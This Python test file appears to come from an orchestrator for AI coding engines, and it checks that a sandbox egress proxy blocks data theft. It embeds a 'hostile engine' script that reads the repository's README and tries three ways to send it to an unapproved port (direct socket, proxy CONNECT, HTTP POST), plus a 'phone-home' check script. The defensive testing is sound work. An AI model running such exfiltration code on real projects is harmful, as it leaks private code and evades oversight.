"""A hostile coding engine against the egress proxy, through the real CLI under the real
bubblewrap (issue 40, item 4): it may reach its model's host (a loopback server on its
allow-list) and tries to ship the repository's file to another loopback port — straight
out, through the proxy by CONNECT, and as a plain-HTTP POST. Nothing arrives; each
refusal is in the attempt record, in the stage's log and in ``orchestrator show``."""

from __future__ import annotations

import http.server
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import git
import pytest

from conftest import orchestrator_cmd, subprocess_env, write_ticket
from support.harness import make_origin, write_pipeline
from support.sandbox_required import require_sandbox

pytestmark = pytest.mark.slow  # the file's one test

MODEL_REPLY = b"the model says: add a greeting"

# The engine: asks its model (allowed), writes the answer into the clone (so its work is
# committed), then tries three ways to send README.md to the exfiltration port. No
# braces: the orchestrator expands {placeholders} in an engine's command.
HOSTILE = r"""
import json, os, socket, sys, urllib.request
model, sink = int(sys.argv[1]), int(sys.argv[2])
reply = urllib.request.urlopen("http://127.0.0.1:%d/v1/messages" % model, timeout=20).read()
open("MODEL_SAID.txt", "wb").write(reply)
loot = open("README.md", "rb").read()
tried = {}
try:
    socket.create_connection(("127.0.0.1", sink), timeout=5).sendall(loot)
    tried["direct"] = "sent"
except OSError as exc:
    tried["direct"] = type(exc).__name__
proxy = socket.create_connection(("127.0.0.1", 3128), timeout=20)
proxy.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % sink)
tried["connect"] = proxy.recv(4096).split(b"\r\n")[0].decode()
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:%d/" % sink, data=loot), timeout=20)
    tried["post"] = "sent"
except Exception as exc:
    tried["post"] = str(exc)
print("TRIED " + json.dumps(tried))
"""


# A review check with network = true that phones home through the proxy: refused too.
PHONE_HOME = r"""
import socket, sys
proxy = socket.create_connection(("127.0.0.1", 3128), timeout=20)
proxy.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % int(sys.argv[1]))
print("CHECK " + proxy.recv(4096).split(b"\r\n")[0].decode())
"""


class _Model(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(MODEL_REPLY)))
        self.end_headers()
        self.wfile.write(MODEL_REPLY)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def model() -> Iterator[int]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Model)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1]
    httpd.shutdown()
    httpd.server_close()


def test_a_hostile_engine_reaches_its_model_and_ships_nothing_anywhere_else(
    tmp_path: Path, model: int
) -> None:
    require_sandbox()
    make_origin(tmp_path, {"README.md": "the repository's secret sauce\n"})
    sink = socket.socket()
    sink.bind(("127.0.0.1", 0))
    sink.listen()
    sink.setblocking(False)
    port = sink.getsockname()[1]
    engine = (
        '[engines.evil]\nkind = "command"\nmodels = ["m"]\n'
        f'command = ["{{python}}", "-c", {json.dumps(HOSTILE)}, "{model}", "{port}"]\n'
        f'egress = ["127.0.0.1:{model}"]\n'  # its "model's host"
        '[[stages]]\nname = "implement"\nengine = "evil"\n'
        '[[stages]]\nname = "review"\n[[stages.checks]]\nname = "phone-home"\n'
        f'command = ["{{python}}", "-c", {json.dumps(PHONE_HOME)}, "{port}"]\n'
        'network = true\non_red_base = "ignore"\n'
    )
    config = write_pipeline(tmp_path, engine)
    ticket = write_ticket(tmp_path / "t", kind="feature", body="Add a greeting.")
    env = subprocess_env(HOME=str(tmp_path), DRY_RUN="false")
    try:
        done = subprocess.run(
            orchestrator_cmd("--config", str(config), "run", str(ticket)),
            env=env, capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
        with pytest.raises(BlockingIOError):
            sink.accept()  # nothing ever reached the exfiltration port
    finally:
        sink.close()
    output = done.stdout + done.stderr
    assert done.returncode == 0, output

    (path,) = (tmp_path / "state" / "runs").glob("T-1-*.json")
    record = json.loads(path.read_text())
    (attempt,) = [a for a in record["attempts"] if a["stage"] == "implement"]
    assert attempt["egress"] == "proxy"
    assert attempt["egress_denied"] == [f"127.0.0.1:{port}"]
    assert attempt["egress_denials"] == 2  # the CONNECT and the POST; the direct try had no route
    log = Path(attempt["log_path"]).read_text()
    tried = json.loads(next(line for line in log.splitlines() if line.startswith("TRIED "))[6:])
    assert tried["direct"] == "ConnectionRefusedError"  # the sandbox's own loopback: empty
    assert tried["connect"] == "HTTP/1.1 403 Forbidden"
    assert "403" in tried["post"]
    assert (
        f"# orchestrator: egress denied: 127.0.0.1:{port} (2 times); allowed: 127.0.0.1:{model}"
        in log
    )

    # Its model's answer went through, and is its committed work.
    clone = git.Repo(record["clone_dir"])
    assert (Path(record["clone_dir"]) / "MODEL_SAID.txt").read_bytes() == MODEL_REPLY
    assert "MODEL_SAID.txt" in clone.head.commit.stats.files

    shown = subprocess.run(
        orchestrator_cmd("--config", str(config), "show", record["run_id"]),
        env=env, capture_output=True, text=True, timeout=60, check=True,
    ).stdout  # fmt: skip
    assert f"egress denied (2): 127.0.0.1:{port}" in shown

    # The check's refusal is on its result, and said under it.
    (review,) = [a for a in record["attempts"] if a["stage"] == "review"]
    (check,) = review["checks"]
    assert (check["egress_denied"], check["egress_denials"]) == ([f"127.0.0.1:{port}"], 1)
    assert "CHECK HTTP/1.1 403 Forbidden" in Path(check["log_path"]).read_text()
    assert "      check phone-home: exit 0 in " in shown
    assert f"        egress denied (1): 127.0.0.1:{port}" in shown
